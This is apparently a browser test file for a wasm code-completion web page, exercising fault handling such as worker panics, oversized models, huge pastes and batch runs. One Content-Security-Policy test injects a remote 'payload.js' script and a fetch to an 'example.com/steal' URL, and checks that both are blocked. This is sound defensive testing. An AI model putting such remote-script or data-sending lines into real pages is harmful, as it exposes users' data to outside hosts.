// Faults (issue #7) on the real page and the real default model, those no other browser test covers: a Rust
// panic in the worker, a model too large for wasm32 memory, prompts
// longer than the model's context, cancel while a long prompt is read, a 10 MB paste, binary-looking and
// Python 2 text, folders without Python and with 10,000 files, and the Content-Security-Policy at work. Each
// test checks what the user sees, then that the page still works. docs/reliability.md lists every fault.
import assert from 'node:assert/strict';
import { closeSync, ftruncateSync, mkdirSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { MODEL, base, native, openWithCode, server, test, waitStatus } from './harness.mjs';
import { startRun, useSettings, waitState } from './batchlib.mjs';

const SAMPLE = [
  'def average(values):',
  '    """Return the arithmetic mean of a list of numbers."""',
  '    total = 0',
  '    for v in values:',
  '        total += v',
  '    return total / len(values)',
  '',
].join('\n');

const errorText = (page) => page.getByTestId('error').textContent();

/** Records every Worker the page creates (window.__workers), so a test can talk to the page's engine. */
async function watchWorkers(page) {
  await page.addInitScript(() => {
    const Original = window.Worker;
    window.__workers = [];
    window.Worker = class extends Original {
      constructor(...args) {
        super(...args);
        window.__workers.push(this);
      }
    };
  });
}

/** Hides `line`, sets beams/max/mode, presses Complete. */
async function start(page, line, { beams = 1, max = 8, mode = 'single' } = {}) {
  await page.locator('#set-beams').fill(String(beams));
  await page.locator('#set-max').fill(String(max));
  await page.locator('#set-mode').selectOption(mode);
  await page.getByTestId(`line-${line}`).click();
  await page.getByTestId('complete').click();
}

/** The main thread's answer time: a round trip through the page's event loop, in ms. */
async function roundTrip(page) {
  const t0 = Date.now();
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
  return Date.now() - t0;
}

await test('a Rust panic in the worker mid-completion is caught: the run stops, the user is told, the engine restarts and works', async (page) => {
  await watchWorkers(page);
  await openWithCode(page, SAMPLE);
  await start(page, 3, { beams: 2, max: 200, mode: 'multi' });
  await waitStatus(page, ['generating'], 30_000);
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=beams] li, #beams li').length > 0, null, { timeout: 60_000 });
  // A real panic (src/web/mod.rs WorkerEngine::panic, the `panic` self-test request) between two steps.
  await page.evaluate(() => window.__workers.at(-1).postMessage({ kind: 'panic', id: 4242 }));
  await page.getByTestId('error').waitFor({ state: 'visible', timeout: 10_000 });
  const told = await errorText(page);
  assert.match(told, /The engine crashed: panicked at .*self-test: a deliberate panic \(request 4242\)/s, told);
  assert.match(told, /restarting and will load the model again/, told);
  assert.match(await page.locator('#beams-step').textContent(), /Stopped by an error/);
  // A fresh worker loads the model again (from the browser's cache) and the page works as before.
  assert.equal(await waitStatus(page, ['ready'], 120_000), 'ready');
  assert.equal(await page.evaluate(() => window.__workers.length), 2, 'the engine was not restarted');
  assert.match(await errorText(page), /The engine crashed/, 'the message disappeared before the user could read it');
  await start(page, 6);
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
  assert.ok((await page.getByTestId('completion').textContent()).trim().length > 0);
});

await test('a model file too large for wasm32 memory is refused from its size, before it is downloaded or read', async (page) => {
  // Sparse 3 GB files: their size is real (Content-Length, File.size), their bytes take no disk.
  const dir = mkdtempSync(join(tmpdir(), 'infill-big-'));
  mkdirSync(join(dir, 'big', 'model'), { recursive: true });
  const huge = join(dir, 'big', 'model', 'huge-3gb.gguf');
  const fd = openSync(huge, 'w');
  ftruncateSync(fd, 3e9);
  closeSync(fd);
  const previousHub = server.hub.dir;
  server.hub.dir = dir;
  try {
    await page.goto(`${base}?hub=./hub`);
    assert.equal(await waitStatus(page, ['ready', 'error'], 120_000), 'ready');
    if (!(await page.locator('#models').evaluate((d) => d.open))) await page.locator('#models > summary').click();
    const since = server.requests.length;
    await page.getByTestId('custom-repo').fill('big/model');
    await page.getByTestId('custom-file').fill('huge-3gb.gguf');
    await page.getByTestId('custom-load').click();
    await page.getByTestId('error').waitFor({ state: 'visible', timeout: 30_000 });
    const told = await errorText(page);
    assert.match(told, /`huge-3gb\.gguf \(big\/model\)` is 3\.00 GB, too large for this page/, told);
    assert.match(told, /at most 4 GiB of memory/, told);
    // The download was stopped at its first answer: one request, nothing retried.
    assert.equal(server.requests.slice(since).filter((r) => r.path.endsWith('huge-3gb.gguf')).length, 1);
    // The model already loaded stays in use.
    assert.equal(await waitStatus(page, ['ready'], 30_000), 'ready');
    assert.match(await page.locator('#status-label').textContent(), /Still using SmolLM2-135M-Instruct/);

    // The same file from the computer is refused from File.size, without reading 3 GB.
    await page.locator('#error-close').click();
    await page.getByTestId('model-file').setInputFiles(huge);
    await page.getByTestId('error').waitFor({ state: 'visible', timeout: 30_000 });
    assert.match(await errorText(page), /`huge-3gb\.gguf` is 3\.00 GB, too large for this page/);
    assert.equal(await waitStatus(page, ['ready'], 30_000), 'ready');
    await page.getByTestId('code').fill(SAMPLE);
    await start(page, 6);
    assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
  } finally {
    server.hub.dir = previousHub;
    rmSync(dir, { recursive: true, force: true });
  }
});

await test('a line longer than the model\'s whole context gives a clear message, and the page stays usable', async (page) => {
  // SmolLM2's tokenizer splits digits one by one: 6,000 digits are 6,000 tokens, over the 4,096 the engine keeps.
  const code = ['def f():', `    x = "${'1234567890'.repeat(600)}"`, '    return x', ''].join('\n');
  await openWithCode(page, code);
  await start(page, 3);
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'error');
  assert.match(await errorText(page), /the line before the hidden line alone needs more than the \d+ tokens the model's context leaves for the prompt/);
  await page.getByTestId('code').fill(SAMPLE);
  await start(page, 6);
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
});

// A function longer than the context: about 7,000 tokens above its last line.
const LONG = ['def long_function(data):', ...Array.from({ length: 500 }, (_, i) => `    value_${i} = data[${i}] * ${i + 1} + ${i % 7}`),
  '    return value_499', ''].join('\n');

await test('cancel during the prompt stops the run before any token; Complete again goes on reading from there; the next completion in the same code equals the CLI', async (page) => {
  await openWithCode(page, LONG);
  const last = LONG.split('\n').length - 1;
  await start(page, last, { beams: 1, max: 8 });
  await waitStatus(page, ['generating'], 30_000);
  // The worker reads the long prompt a piece at a time (src/engine.rs PROMPT_CHUNK) and says how far it got,
  // out of the prompt's length the page shows beside the prompt.
  const reading = /^Reading the code… ([\d,]+) of ([\d,]+) tokens \((\d+)%\)$/;
  await page.waitForFunction((re) => new RegExp(re).test(document.querySelector('#beams-step')?.textContent ?? ''),
    reading.source, { timeout: 60_000 });
  const [, read, total, percent] = (await page.locator('#beams-step').textContent()).match(reading).map((x) => Number(x.replaceAll(',', '')));
  assert.match(await page.locator('#prompt-meta').textContent(), new RegExp(`${total.toLocaleString('en-US')} tokens`));
  assert.ok(read > 0 && read < total && total > 3000, `read ${read} of ${total}`);
  assert.equal(percent, Math.floor((100 * read) / total));
  assert.equal(await page.locator('#next-hint').textContent(), `Reading the code (${total.toLocaleString('en-US')} tokens) before guessing… press Esc to stop.`);
  const t0 = Date.now();
  await page.getByTestId('cancel').click();
  assert.equal(await waitStatus(page, ['ready', 'done', 'error'], 60_000), 'ready', await errorText(page).catch(() => ''));
  const stopMs = Date.now() - t0;
  assert.match(await page.locator('#beams-step').textContent(), /Stopped after 0 tokens/);
  assert.ok(await page.locator('#results').isHidden(), 'a cancelled run showed results');
  console.log(`  cancel while a ~4,000-token prompt was read took ${stopMs} ms`);
  assert.ok(stopMs < 30_000, `cancel took ${stopMs} ms`);

  // Complete again: the reading goes on from where the stop left it (src/engine.rs `Engine::stop`), not from
  // the first token. Without that, each stop in a long file threw away everything read so far.
  await page.getByTestId('complete').click();
  await page.waitForFunction((re) => new RegExp(re).test(document.querySelector('#beams-step')?.textContent ?? ''),
    reading.source, { timeout: 60_000 });
  const resumed = Number((await page.locator('#beams-step').textContent()).match(reading)[1].replaceAll(',', ''));
  assert.ok(resumed > read, `after the stop the reading began again: ${resumed} read, ${read} before the stop`);
  await page.getByTestId('cancel').click();
  assert.equal(await waitStatus(page, ['ready', 'done', 'error'], 60_000), 'ready', await errorText(page).catch(() => ''));

  // The engine is left clean: a short completion in the same code gives exactly what the CLI gives. (Running
  // the cancelled ~4,000-token prompt to its end took ~170 s of the suite; a prompt cut to fit the context
  // and its "lines left out" are checked by the 10 MB paste test below, which runs one.)
  await start(page, 14, { beams: 1, max: 24 });
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page).catch(() => ''));
  const completion = await page.getByTestId('completion').textContent();
  assert.ok(completion.trim().length > 0, 'the completion is empty');
  const file = join(mkdtempSync(join(tmpdir(), 'infill-cancel-')), 'long.py');
  writeFileSync(file, LONG);
  const cli = JSON.parse(native(['complete', '--model', MODEL, '--file', file, '--line', '14', '--beams', '1', '--max-new-tokens', '24', '--json']));
  rmSync(dirname(file), { recursive: true, force: true });
  assert.equal(completion, cli.result.completion, 'after the cancel, the page and the CLI disagree');
  assert.match(await page.getByTestId('stat-prompt_tokens').textContent(), /^[\d,]+ tokens$/, 'a short prompt was cut');
  // A line a little lower: its prompt begins with the one just read, and the speed figures say so (never all
  // of it: the last token runs again to give the next token's odds). (The long prompt above was cut to fit
  // the context, so it began far from the top: nothing of it served here.)
  const before = cli.result.stats.prompt_tokens;
  await start(page, 16, { beams: 1, max: 4 });
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page).catch(() => ''));
  const help = await page.getByTestId('stat-prompt_tokens').locator('xpath=following-sibling::p').textContent();
  const said = help.match(/^How much text the model had to read\. The first ([\d,]+) had been read already, for an earlier run on this code, so ([\d,]+) (?:was|were) new\.$/);
  assert.ok(said, `the prompt-length figure does not say the prompt was read already: ${help}`);
  const [reusedTokens, newTokens] = said.slice(1).map((x) => Number(x.replaceAll(',', '')));
  const total16 = Number((await page.getByTestId('stat-prompt_tokens').textContent()).match(/^([\d,]+) tokens$/)[1].replaceAll(',', ''));
  assert.ok(reusedTokens >= before - 2 && reusedTokens < total16, help);
  assert.equal(reusedTokens + newTokens, total16);
});

await test('a 10 MB pasted file keeps the page responsive; a line near its end completes, and the page says how many lines were left out of the prompt', async (page) => {
  const lines = [];
  let bytes = 0;
  for (let i = 0; bytes < 10_000_000; i++) {
    const line = i % 50 === 0 ? `def function_${i}(items, scale=${i}):` : `    result_${i} = [item * scale + ${i} for item in items if item > ${i % 13}]`;
    lines.push(line);
    bytes += line.length + 1;
  }
  const big = `${lines.join('\n')}\n`;
  await openWithCode(page, SAMPLE);
  // Long tasks (main thread busy over 50 ms), from here on.
  await page.evaluate(() => {
    window.__long = [];
    new PerformanceObserver((list) => list.getEntries().forEach((e) => window.__long.push(Math.round(e.duration))))
      .observe({ type: 'longtask' });
  });
  // Pasted as a browser does it: the value changes, then an `input` event with inputType insertFromPaste.
  const t0 = Date.now();
  await page.getByTestId('code').evaluate((box, text) => {
    box.focus();
    box.value = text;
    box.dispatchEvent(new InputEvent('input', { inputType: 'insertFromPaste', bubbles: true }));
  }, big);
  const fillMs = Date.now() - t0;
  assert.equal(await page.getByTestId('code').evaluate((box) => box.value.length), big.length);
  const rt = await roundTrip(page);
  await page.waitForTimeout(1500); // the link (#code=…) is written 300 ms after an edit
  const rtLater = await roundTrip(page);
  // Scroll the line view to the end, as a person would, and hide a line there.
  const n = lines.length - 2;
  const t1 = Date.now();
  await page.locator('#line-view').evaluate((v) => { v.scrollTop = v.scrollHeight; });
  await page.getByTestId(`line-${n}`).click();
  const clickMs = Date.now() - t1;
  const long = await page.evaluate(() => window.__long);
  console.log(`  ${(big.length / 1e6).toFixed(1)} MB, ${lines.length} lines: fill ${fillMs} ms; round trips ${rt} and ${rtLater} ms; `
    + `scroll to the end and click ${clickMs} ms; rows in the DOM ${await page.locator('.ln-row').count()}; long tasks ${JSON.stringify(long)} ms`);
  assert.ok(rt < 250 && rtLater < 250, `the main thread was blocked for ${rt} / ${rtLater} ms after the paste`);
  // Setting a 10 MB value and highlighting 139,000 lines is one long task (5.0 s measured on a busy 2-core
  // machine); after it the page answers at once.
  assert.ok(Math.max(0, ...long) < 10_000, `a long task of ${Math.max(...long)} ms`);
  assert.ok(await page.locator('.ln-row').count() < 2000, 'the line view built a row for every line');
  await page.locator('#set-beams').fill('1');
  const t2 = Date.now();
  await page.getByTestId('complete').click();
  await waitStatus(page, ['generating', 'done', 'error'], 30_000);
  const during = await roundTrip(page);
  assert.ok(during < 250, `the main thread was blocked for ${during} ms while the worker ran`);
  // The worker cut the 10 MB to fit the context and shows the prompt (the `started` event).
  await page.waitForFunction(() => /tokens/.test(document.querySelector('#prompt-meta')?.textContent ?? ''), null, { timeout: 120_000 });
  const startedMs = Date.now() - t2;
  assert.equal(await waitStatus(page, ['done', 'error'], 400_000), 'done', await errorText(page).catch(() => ''));
  console.log(`  the prompt was cut and shown after ${startedMs} ms; the whole run took ${Date.now() - t2} ms`);
  // The prompt was cut at line boundaries to fit the context, and the page says how much.
  const shown = await page.getByTestId('stat-prompt_tokens').textContent();
  const m = /^([\d,]+) tokens · ([\d,]+) lines left out$/.exec(shown);
  assert.ok(m, `prompt length shows ${JSON.stringify(shown)}`);
  assert.ok(Number(m[1].replace(/,/g, '')) <= 4096, shown);
  assert.ok(Number(m[2].replace(/,/g, '')) > 100_000, shown);
  assert.ok((await page.getByTestId('completion').textContent()).trim().length > 0);
});

await test('pasted binary-looking text, Python 2 and syntax errors complete in file and function context, with a note that the code is not valid Python 3; nothing breaks', async (page) => {
  // NUL and other control characters, a lone UTF-16 surrogate, a Python 2 print statement, an unclosed bracket.
  const code = [
    'def legacy(items):',
    '    print "items:", len(items)\u0000\u0007',
    '    bad = [1, 2,',
    '    name = "\uD800\u001b[31m"',
    '    total = 0',
    '    for item in items:',
    '        total += item',
    '    return total',
    '',
  ].join('\n');
  await openWithCode(page, code);
  await page.getByTestId('advanced').locator('summary').click();
  for (const context of ['file', 'function']) {
    await page.locator('#set-context').selectOption(context);
    await start(page, 8);
    assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', `${context}: ${await errorText(page)}`);
    assert.ok((await page.getByTestId('completion').textContent()).trim().length > 0, context);
    assert.equal(await page.getByTestId('target').textContent(), '    return total');
    // Python rejects a NUL before anything else; the note says so.
    const note = page.getByTestId('code-note');
    assert.ok(await note.isVisible(), `${context}: no note that the code is not Python`);
    assert.match(await note.textContent(), /^This code is not valid Python 3 \(a NUL character at byte offset 49\)\. The model reads it as it is/);
    if (context === 'function') assert.match(await note.textContent(), /sees the whole file/);
  }
  // Without the control characters: the Python 2 print statement is the first syntax error.
  const py2 = code.replace('\u0000\u0007', '');
  await page.getByTestId('code').fill(py2);
  await start(page, 8);
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
  assert.match(await page.getByTestId('code-note').textContent(), /^This code is not valid Python 3 \(syntax error at line 2, column \d+: .+\)\. The model reads it as it is.+sees the whole file/);
  // Valid code gets no note.
  await page.getByTestId('code').fill(py2.replace('print "items:", len(items)', 'print("items:", len(items))').replace('    bad = [1, 2,\n', ''));
  await start(page, 7);
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
  assert.ok(await page.getByTestId('code-note').isHidden(), await page.getByTestId('code-note').textContent());
});

await test('batch: a folder without Python files says there is nothing to run; 10,000 files preview and keep the page responsive', async (page) => {
  await openWithCode(page, SAMPLE);
  const drop = async (files) => page.getByTestId('batch-drop').evaluate((zone, list) => {
    const dt = new DataTransfer();
    const made = typeof list === 'number'
      ? Array.from({ length: list }, (_, i) => new File([`def f_${i}(x):\n    y = x * ${i}\n    return y + ${i % 7}\n`], `mod_${i}.py`))
      : list.map(([name, text]) => new File([text], name));
    for (const f of made) dt.items.add(f);
    for (const type of ['dragenter', 'dragover', 'drop']) zone.dispatchEvent(new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, files);
  const count = async (id) => Number(await page.getByTestId(`batch-count-${id}`).getAttribute('data-value'));

  await drop([['README.md', '# notes'], ['data.csv', 'a,b\n1,2\n']]);
  await page.getByTestId('batch-count-tasks').waitFor({ timeout: 60_000 });
  assert.equal(await count('tasks'), 0);
  assert.equal(await page.getByTestId('batch-start').isDisabled(), true);
  assert.equal(await page.getByTestId('batch-start-hint').textContent(), 'There are no tasks to run.');

  const t0 = Date.now();
  await drop(10_000);
  await page.waitForFunction(() => Number(document.querySelector('[data-testid=batch-count-read]')?.dataset.value) === 10_000, null, { timeout: 300_000 });
  const previewMs = Date.now() - t0;
  const rt = await roundTrip(page);
  console.log(`  10,000 dropped files previewed in ${previewMs} ms; ${await count('tasks')} tasks; round trip after ${rt} ms`);
  assert.equal(await count('tasks'), 10_000);
  assert.ok(rt < 250, `the main thread was blocked for ${rt} ms`);
  assert.equal(await page.getByTestId('batch-start').isDisabled(), false);
  assert.equal(await page.getByTestId('status').textContent(), 'ready');
});

await test('the Content-Security-Policy blocks an injected inline script, a remote script and a fetch to another host', async (page) => {
  await page.goto(base);
  assert.equal(await waitStatus(page, ['ready', 'error'], 180_000), 'ready');
  const seen = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://example.com/payload.js';
    const remoteDone = new Promise((resolve) => { remote.onload = () => resolve('loaded'); remote.onerror = () => resolve('blocked'); });
    document.body.append(remote);
    let fetched;
    try { await fetch('https://example.com/steal?x=1'); fetched = 'sent'; } catch { fetched = 'blocked'; }
    const remoteResult = await remoteDone;
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { inlineRan: window.__inlineRan === true, remoteResult, fetched, violations };
  });
  assert.equal(seen.inlineRan, false, 'the inline script ran');
  assert.equal(seen.remoteResult, 'blocked');
  assert.equal(seen.fetched, 'blocked');
  assert.ok(seen.violations.some((v) => v.startsWith('script-src-elem inline')), JSON.stringify(seen.violations));
  assert.ok(seen.violations.some((v) => v === 'script-src-elem https://example.com/payload.js'), JSON.stringify(seen.violations));
  assert.ok(seen.violations.some((v) => v.startsWith('connect-src https://example.com/steal')), JSON.stringify(seen.violations));
  // The page still works after the attempts.
  await page.getByTestId('code').fill(SAMPLE);
  await start(page, 6);
  assert.equal(await waitStatus(page, ['done', 'error'], 120_000), 'done', await errorText(page));
});

await test('batch: an empty folder chosen with the folder input is named as empty, and the page stays usable', async (page) => {
  await openWithCode(page, SAMPLE);
  const empty = mkdtempSync(join(tmpdir(), 'infill-empty-'));
  await page.getByTestId('batch-folder').setInputFiles(empty);
  rmSync(empty, { recursive: true, force: true });
  await page.waitForFunction(() => /no files in it/.test(document.querySelector('[data-testid=batch-preview]')?.textContent ?? ''),
    null, { timeout: 10_000 });
  assert.equal(await page.getByTestId('batch-preview').isVisible(), true);
  // Easy 40 still previews after it.
  await page.getByTestId('batch-easy40').click();
  await page.getByTestId('batch-count-tasks').waitFor({ timeout: 60_000 });
  assert.equal(Number(await page.getByTestId('batch-count-tasks').getAttribute('data-value')), 40);
});

/** Easy 40, greedy, on `engines` engines: set up and started. */
async function startGreedyEasy40(page, engines) {
  await useSettings(page, { beams: 1 });
  await page.getByTestId('batch-engines').selectOption(String(engines));
  await page.getByTestId('batch-easy40').click();
  await startRun(page);
}

/** Waits until the results table shows `n` rows (it is redrawn a moment after the last result). */
async function waitRows(page, n) {
  await page.waitForFunction((want) => document.querySelectorAll('[data-testid^=batch-row-]').length === want, n, { timeout: 10_000 });
}

await test('batch: an extra engine that cannot load the model leaves the run to the page\'s engine, which finishes it', async (page) => {
  await page.goto(base);
  assert.equal(await waitStatus(page, ['ready', 'error'], 180_000), 'ready');
  // The stored copy is gone and the server answers 404: a second engine cannot get the model.
  assert.equal(await page.evaluate(() => caches.delete('infill-models-v1')), true);
  await page.route('**/*.gguf', (route) => route.fulfill({ status: 404, body: 'Not Found' }));
  await startGreedyEasy40(page, 2);
  await page.waitForFunction(() => /could not load the model/.test(document.querySelector('[data-testid=batch-current]')?.textContent ?? ''),
    null, { timeout: 60_000, polling: 100 });
  const note = await page.getByTestId('batch-current').textContent();
  assert.match(note, /An extra engine could not load the model: .*404.*; the run goes on with 1 engine\./, note);
  assert.equal(await waitState(page, ['done'], 600_000), 'done');
  assert.equal(await page.getByTestId('batch-progress').evaluate((p) => p.dataset.done), '40');
  assert.equal(await page.getByTestId('batch-progress-text').getAttribute('data-engines'), '1');
  await waitRows(page, 40);
  assert.equal(await page.getByTestId('status').textContent(), 'ready', 'the page\'s own engine was disturbed');
});

await test('batch: an extra engine that crashes mid-task is ended, its task goes back to the queue, and the run finishes with the rest', async (page) => {
  await watchWorkers(page);
  await page.goto(base);
  assert.equal(await waitStatus(page, ['ready', 'error'], 180_000), 'ready');
  await startGreedyEasy40(page, 2);
  // The extra engine has loaded the model and taken tasks.
  await page.waitForFunction(() => document.querySelector('[data-testid=batch-progress-text]')?.dataset.engines === '2'
    && window.__workers.length === 2, null, { timeout: 120_000, polling: 100 });
  await page.waitForFunction(() => (document.querySelector('[data-testid=batch-current]')?.textContent ?? '').includes(';'),
    null, { timeout: 60_000, polling: 50 });
  // A real panic in the extra engine (the `panic` self-test request), between two steps of its task.
  await page.evaluate(() => window.__workers[1].postMessage({ kind: 'panic', id: 4343 }));
  await page.waitForFunction(() => /extra engine stopped with an error/.test(document.querySelector('[data-testid=batch-current]')?.textContent ?? ''),
    null, { timeout: 30_000, polling: 50 });
  const note = await page.getByTestId('batch-current').textContent();
  assert.match(note, /An extra engine stopped with an error: .*self-test: a deliberate panic \(request 4343\).*; the run goes on with 1 engine\./s, note);
  assert.equal(await waitState(page, ['done'], 600_000), 'done');
  await waitRows(page, 40);
  // Every task has a result and none is an error: the one the crashed engine held was run again.
  assert.equal(await page.locator('[data-testid^=batch-row-].is-error').count(), 0);
  assert.equal(await page.evaluate(() => window.__workers.length), 2, 'the crashed engine was started again');
  assert.equal(await page.getByTestId('status').textContent(), 'ready', 'the page\'s own engine was disturbed');
});
